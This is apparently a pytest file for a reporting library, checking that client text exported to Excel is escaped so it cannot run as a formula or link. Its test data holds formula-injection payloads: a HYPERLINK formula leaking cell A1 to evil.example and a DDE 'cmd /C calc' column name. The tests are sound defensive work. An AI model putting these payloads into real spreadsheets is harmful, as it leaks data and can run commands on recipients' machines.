"""Files a consultant can send: no formulas from client text, client text drawn as text,
atomic and owned output folders."""

from __future__ import annotations

import io

import openpyxl
import polars as pl
import pytest

from loyaltylab.report import Report, export_tables

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "@SUM(A1)",
           "-2+3", "\tcmd", "\r=1", "http://evil.example", "plain", "-12.50"]


# ------------------------------------------------------------------ formula injection
def _cells(path, sheet):
    ws = openpyxl.load_workbook(path)[sheet]
    return [[(c.value, c.data_type, c.hyperlink) for c in row] for row in ws.iter_rows()]


def test_client_text_in_the_workbook_is_never_a_formula_or_a_link(tmp_path):
    path = tmp_path / "tables.xlsx"
    frame = pl.DataFrame({"campaign": HOSTILE, "orders": list(range(len(HOSTILE))),
                          "tier": pl.Series(HOSTILE, dtype=pl.Categorical)})
    export_tables({"Campaigns": frame}, path, notes={"Campaigns": "=1+1 a note"})
    rows = _cells(path, "Campaigns")
    assert [v for v, _, _ in rows[0]] == ["campaign", "orders", "tier"]
    for col in (0, 2):
        values = [r[col] for r in rows[1:]]
        assert all(kind == "s" and link is None for _, kind, link in values), values
        # xlsx stores a carriage return as _x000D_ (Excel shows it as one)
        assert [v.replace("_x000D_", "\r") for v, _, _ in values] == [
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+1", "'@SUM(A1)",
            "'-2+3", "'\tcmd", "'\r=1", "http://evil.example", "plain", "-12.50"]
    assert [r[1][0] for r in rows[1:]] == list(range(len(HOSTILE)))  # numbers stay numbers
    about = _cells(path, "About")
    assert about[1][2][:2] == ("'=1+1 a note", "s")


def test_a_hostile_column_name_is_neutralised_too(tmp_path):
    path = tmp_path / "t.xlsx"
    export_tables({"t": pl.DataFrame({"=cmd|' /C calc'!A0": ["x"]})}, path)
    header = _cells(path, "t")[0][0]
    assert header[0] == "'=cmd|' /C calc'!A0" and header[1] == "s"


def test_report_workbook_and_data_quality_sheet_are_text(tmp_path):
    rep = Report("Demo")
    rep.add_table(pl.DataFrame({"segment": HOSTILE[:3], "buyers": [1, 2, 3]}),
                  title="=Segments")
    path = rep.write_excel(tmp_path / "tables.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb[wb.sheetnames[1]]
    assert [c.value for c in ws["A"]][1:] == ["'" + v for v in HOSTILE[:3]]
    assert all(c.data_type == "s" for c in ws["A"])
